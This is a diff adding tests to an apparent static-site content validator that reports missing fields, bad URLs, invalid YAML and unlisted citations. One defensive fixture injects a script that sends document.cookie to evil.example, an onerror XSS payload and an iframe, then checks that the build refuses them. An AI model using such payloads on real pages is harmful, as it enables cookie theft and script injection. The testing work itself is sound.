@@ -17,6 +17,22 @@ describe('a build with broken content', () => {
   const missingReference = buildBroken('reference', 'roles/devops.mdx', (text) => text.replace(/goal: deliver-more-often/, 'goal: deliver-faster'));
   const malformedField = buildBroken('field', 'goals/deliver-more-often.mdx', (text) => text.replace(/^order: \d+$/m, 'order: first'));
   const duplicateId = buildBroken('duplicate', 'roles/sre.mdx', (text) => text, 'roles/sre.md');
+  const missingField = buildBroken('missing', 'roles/devops.mdx', (text) => text.replace(/^summary:.*\n/m, ''));
+  const badAddress = buildBroken('address', 'sources.yaml', (text) => text.replace(/url: https:\/\//, 'url: htp://'));
+  const notYaml = buildBroken('yaml', 'roles/sre.mdx', (text) => text.replace(/^summary: (.*)$/m, 'summary: "$1'));
+  let citationLine = 0;
+  const unlistedCitation = buildBroken('citation', 'roles/devops.mdx', (text) => {
+    const edited = `${text}\nAs the report found <Cite id="no-such-report" />.\n`;
+    citationLine = edited.split('\n').length - 1;
+    return edited;
+  });
+  const untouched = buildBroken('none', 'roles/sre.mdx', (text) => text);
+  const embeddedCode = buildBroken(
+    'embedded-code',
+    'roles/devops.mdx',
+    (text) =>
+      `${text}\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n\n<a href="#top" onClick={() => alert(1)}>Top</a>\n\n<iframe src="https://evil.example/" />\n\n<Fragment set:html="<img src=x onerror=alert(1)>" />\n\n<style>{'body { display: none }'}</style>\n`,
+  );
 
   it('fails on a reference to a missing entry, naming the file, the field, the value and the fix', async () => {
     const { ok, output } = await missingReference;
@@ -33,9 +49,65 @@ describe('a build with broken content', () => {
     expect(output).toContain('order must be a whole number, such as 3');
   });
 
+  it('says a missing field is required and what it is for, with the file and the line', async () => {
+    const { ok, output } = await missingField;
+    expect(ok).toBe(false);
+    expect(output).toContain(
+      'content/roles/devops.mdx:1: field "summary" is missing, and it is required: what it is, in one line, shown in lists and search results and as the page\'s description. Fix: add "summary:" to the frontmatter',
+    );
+  });
+
+  it('shows a wrong value with its line and what the field needs', async () => {
+    const { ok, output } = await malformedField;
+    expect(ok).toBe(false);
+    expect(output).toMatch(/content\/goals\/deliver-more-often\.mdx:\d+: field "order" is "first", but order must be a whole number, such as 3/);
+  });
+
+  it('points a bad address in sources.yaml at its entry and line', async () => {
+    const { ok, output } = await badAddress;
+    expect(ok).toBe(false);
+    expect(output).toMatch(/content\/sources\.yaml:\d+: field "[\w-]+\.url" is "htp:\/\/[^"]+", but url must be a full https:\/\/ address\./);
+  });
+
+  it('names the line, the field and a fix for frontmatter that is not YAML', async () => {
+    const { ok, output } = await notYaml;
+    expect(ok).toBe(false);
+    expect(output).toMatch(
+      /content\/roles\/sre\.mdx:\d+: the frontmatter is not valid YAML in field "summary": .*\. Fix: close the quote or bracket this value opens\./,
+    );
+  });
+
+  it('gives the line of a citation the page does not list', async () => {
+    const { ok, output } = await unlistedCitation;
+    expect(ok).toBe(false);
+    expect(output).toContain(
+      `content/roles/devops.mdx:${citationLine}: the body cites "no-such-report" but the field "sources" does not list it. Fix: add "no-such-report" to sources and to content/sources.yaml.`,
+    );
+  });
+
   it('fails on a duplicate id, naming both files', async () => {
     const { ok, output } = await duplicateId;
     expect(ok).toBe(false);
     expect(output).toMatch(/content\/roles\/sre\.mdx?: duplicate id "sre", already used by content\/roles\/sre\.mdx?/);
+  });
+
+  it('builds the untouched tiny guide, so each failure above comes from its one edit', async () => {
+    const { ok, output } = await untouched;
+    expect(output).not.toMatch(/\[ERROR\]/);
+    expect(ok).toBe(true);
+  });
+
+  it('refuses scripts, styles, embeds and event handlers written into content, naming the file, the line and the fix', async () => {
+    const { ok, output } = await embeddedCode;
+    expect(ok).toBe(false);
+    const refused = (line: number, what: string) =>
+      `content/roles/devops.mdx:${line}: ${what} is not allowed in the guide's content, as only the guide's own code may run on its pages.`;
+    const last = Number(/content\/roles\/devops\.mdx:(\d+): a raw <style>/.exec(output)?.[1]);
+    expect(output).toContain(refused(last - 8, 'a raw <script> element'));
+    expect(output).toContain(refused(last - 6, 'the event handler onClick on <a>'));
+    expect(output).toContain(refused(last - 4, 'a raw <iframe> element'));
+    expect(output).toContain(refused(last - 2, 'set:html on <Fragment>, which inserts raw HTML'));
+    expect(output).toContain(refused(last, 'a raw <style> element'));
+    expect(output).toContain('Fix: remove it. Behaviour or styling belongs in a component in src/components/');
   });
 });
